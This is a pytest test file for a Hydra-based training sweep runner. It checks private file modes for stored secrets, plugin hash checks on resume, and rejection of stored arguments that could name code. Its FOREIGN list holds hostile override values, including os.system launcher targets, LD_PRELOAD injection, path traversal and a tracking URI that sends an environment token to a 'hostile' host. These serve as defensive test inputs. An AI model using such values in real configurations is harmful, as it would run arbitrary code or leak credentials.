"""A sweep keeps secrets private and loads no code from its stored files."""

import json
import re
import shutil
import stat
from pathlib import Path
from unittest.mock import Mock

import pytest

from runner.cli import main
from runner.config.hydra_sweep import JOB, launch_planned
from runner.config.launcher import Launcher
from runner.errors import Interrupted, SecurityError
from runner.plugin.installing import PLUGINS
from runner.sweeps.grid import merged_arguments
from tests.fake_training import FakeTraining
from tests.plugin_tables import EXAMPLES, restored_tables
from tests.refusal import Capture, refused
from tests.sweep.tables import copied, run_in

SECRET = "hunter2"
SECRET_SWEEP = ["-m", "tracking=none", "tracking.pictures=false", "hydra.sweep.dir=sweep", "seed=1"]
ENVIRONMENT = f"+hydra.job.env_set.STORE_TOKEN={SECRET}"


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def files_with_the_secret(folder: Path) -> set[str]:
    """Return the paths, relative to ``folder``, of the files in it that contain the secret."""
    files = (path for path in folder.rglob("*") if path.is_file())
    return {str(path.relative_to(folder)) for path in files if SECRET.encode() in path.read_bytes()}


@pytest.mark.usefixtures("fake_training")
@pytest.mark.parametrize("existing", [False, True])
def test_only_the_owner_can_read_a_secret_of_the_launcher(folder: Path, existing: bool) -> None:
    if existing:
        (folder / "sweep").mkdir(mode=0o755)
    assert main([*SECRET_SWEEP, ENVIRONMENT]) == 0
    assert mode(folder / "sweep") == (0o755 if existing else 0o700)
    sweep = folder / "sweep"
    modes = {name: mode(sweep / name) for name in files_with_the_secret(sweep)}
    assert modes == {"plan.json": 0o600, "multirun.yaml": 0o600}


def test_files_of_launchers_are_private(tmp_path: Path) -> None:
    numbers: list[str] = []
    launch_planned(lambda composed: numbers.append(composed[JOB]), {}, {3: tmp_path / "3"}, Launcher(), tmp_path)
    assert numbers == ["3"]
    assert mode(tmp_path / ".launch") == 0o700


def test_a_sweep_without_secrets_has_no_private_files(fake_training: FakeTraining, folder: Path) -> None:
    assert main(SECRET_SWEEP) == 0
    assert [mode(folder / "sweep") & 0o055, mode(folder / "sweep" / "plan.json") & 0o044] == [0o055, 0o044]
    assert len(fake_training.calls) == 1


SWEEP = ["--plugin", "all_conv.py", "-m", "--config-dir", "conf", "model=all_conv", "tracking=none"]
PLUGIN = ["--plugin", "all_conv.py"]
RESUME = ["sweep", "resume", "sweep"]


@pytest.fixture(scope="module")
def interrupted_sweep(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the working directory of a sweep that trains a plugin's model and was interrupted in its first job."""
    folder = shutil.copytree(EXAMPLES / "own_model", tmp_path_factory.mktemp("plugin"), dirs_exist_ok=True)
    with restored_tables():
        assert run_in(folder, [*SWEEP, "hydra.sweep.dir=sweep", "seed=1,2"], Mock(side_effect=Interrupted(2))) == 130
    return folder


@pytest.fixture
def interrupted(interrupted_sweep: Path, fake_training: FakeTraining, folder: Path) -> FakeTraining:
    """Provide a copy of the interrupted sweep in the working directory."""
    copied(interrupted_sweep, folder)
    return fake_training


def test_a_sweep_is_resumed_with_its_plugins(interrupted: FakeTraining, folder: Path, capsys: Capture) -> None:
    interrupted.act = Mock(side_effect=[Interrupted(2), None, None])
    for code in (130, 0):
        with restored_tables():
            assert main([*PLUGIN, *RESUME]) == code
    assert [call.config.model.name for call in interrupted.calls] == ["all_conv"] * 3
    again = f"runner --plugin {folder / 'all_conv.py'} sweep resume {folder / 'sweep'}\n"
    assert f"run the remaining jobs with: {again}" in capsys.readouterr().err


def test_a_sweep_that_was_stopped_before_its_first_job_is_started_again_with_its_plugins(
    folder: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("runner.config.hydra_app.compose_jobs", Mock(side_effect=KeyboardInterrupt))
    monkeypatch.setitem(PLUGINS, "mine.py", "0" * 64)
    assert main(["-m", "seed=1,2"]) == 130
    assert "start it again with: runner --plugin mine.py -m seed=1,2\n" in capsys.readouterr().err


def test_a_stored_sweep_loads_no_code_by_itself(interrupted: FakeTraining, folder: Path, capsys: Capture) -> None:
    with restored_tables():
        message = refused(RESUME, capsys)
    plugin = folder / "all_conv.py"
    assert f"plugins of the sweep are missing; use: runner --plugin {plugin} sweep resume {folder / 'sweep'}" in message
    with restored_tables():
        assert main([*PLUGIN, *RESUME, "--config-dir", "conf", "--accept-changes", "seed=3"]) == 0
    capsys.readouterr()
    with restored_tables():
        assert "plugins of the sweep are missing" in refused([*RESUME, "seed=3"], capsys), "listed in the new plan"


def test_the_table_of_a_sweep_needs_no_plugin(interrupted: FakeTraining, folder: Path, capsys: Capture) -> None:
    capsys.readouterr()
    with restored_tables():
        assert main(["sweep", "status", "sweep"]) == 0
    assert "1 interrupted, 1 not started" in capsys.readouterr().out


def test_a_plugin_that_was_edited_is_refused(interrupted: FakeTraining, folder: Path, capsys: Capture) -> None:
    with (folder / "all_conv.py").open("a") as file:
        file.write("# edited\n")
    with restored_tables():
        message = refused([*PLUGIN, *RESUME], capsys)
    assert f"plugin {folder / 'all_conv.py'} was changed: its SHA-256 was" in message
    assert "expected the plugins with which the sweep was started" in message
    assert interrupted.calls == []


def test_a_plan_of_an_earlier_version_names_no_plugins(interrupted: FakeTraining, folder: Path) -> None:
    path = folder / "sweep" / "plan.json"
    stored = json.loads(path.read_text())
    del stored["plugins"]
    path.write_text(json.dumps(stored))
    with restored_tables():
        assert main([*PLUGIN, *RESUME]) == 0


FOREIGN = r"""
hydra.launcher._target_=os.system   +hydra.callbacks.x={_target_:os.system}   hydra={launcher:{_target_:os.system}}
~hydra.launcher   hydra/launcher=submitit_slurm   +hydra/callbacks=hostile   +model@hydra.callbacks=hostile
hydra.launcher.setup=[sh]   hydra.job.env_set.LD_PRELOAD=x.so   hydra.searchpath=[/hostile]
hydra.sweeper.params={hydra.launcher.n_jobs:1}   hydra.sweep.subdir=${oc.env:TOKEN}
tracking.uri=http://hostile/${oc.env:TOKEN}   tracking.uri=http://hostile/${oc${a}.env:TOKEN}
model=../../hostile   --config-dir   --config-path=/hostile   -cd   --info
"""
PLAIN = """
hydra/launcher=joblib   hydra.launcher.n_jobs=-1   hydra.sweeper.max_batch_size=null   hydra.job.chdir=true
hydra.sweep.dir=multirun/${now:%Y-%m-%d}   hydra.sweep.subdir=${hydra.job.num}   +debug=overfit
++optimizer.lr=0.1,0.2   ~train.monitor   cluster/launcher=local   data.path=../data
model.hidden=[4,${train.batch_size}]   hydrated=1
"""


@pytest.mark.parametrize("argument", FOREIGN.split())
def test_a_stored_argument_that_can_name_code_is_not_used_again(argument: str):
    with pytest.raises(SecurityError, match=re.escape(repr(argument))):
        merged_arguments(["-m", "seed=1,2", argument], ["a=1"])


@pytest.mark.parametrize("argument", PLAIN.split())
def test_a_stored_argument_that_only_chooses_values_is_used_again(argument: str):
    assert merged_arguments(["-m", argument], ["a=1"]) == ["-m", argument, "a=1"]


def test_a_given_argument_replaces_one_that_can_name_code():
    stored = ["-m", "--config-dir", "hostile", "seed=1", "hydra.launcher.setup=[sh]"]
    given = ["--config-dir", "mine", "hydra.launcher.setup=[]"]
    assert merged_arguments(stored, given) == ["-m", "seed=1", "hydra.launcher.setup=[]", "--config-dir", "mine"]


def test_arguments_replace_those_of_the_same_key_and_of_another_launcher():
    stored = ["-m", "seed=1,2", "hydra/launcher=joblib", "hydra.launcher.n_jobs=2"]
    assert merged_arguments(stored, ["seed=3", "a=1"]) == ["-m", "seed=3", *stored[2:], "a=1"]
    assert merged_arguments(["-m", "seed=1", "a=0", "seed=2"], ["seed=3"]) == ["-m", "seed=3", "a=0"]
    assert merged_arguments(["-m", "a=0", "seed=1"], ["~a", "+a=2"]) == ["-m", "~a", "+a=2", "seed=1"]
    assert merged_arguments(stored, ["hydra/launcher=basic"]) == ["-m", "seed=1,2", "hydra/launcher=basic"]
    four_jobs = "hydra.launcher.n_jobs=4"
    assert merged_arguments(stored, ["hydra/launcher=joblib", four_jobs]) == [*stored[:3], four_jobs]
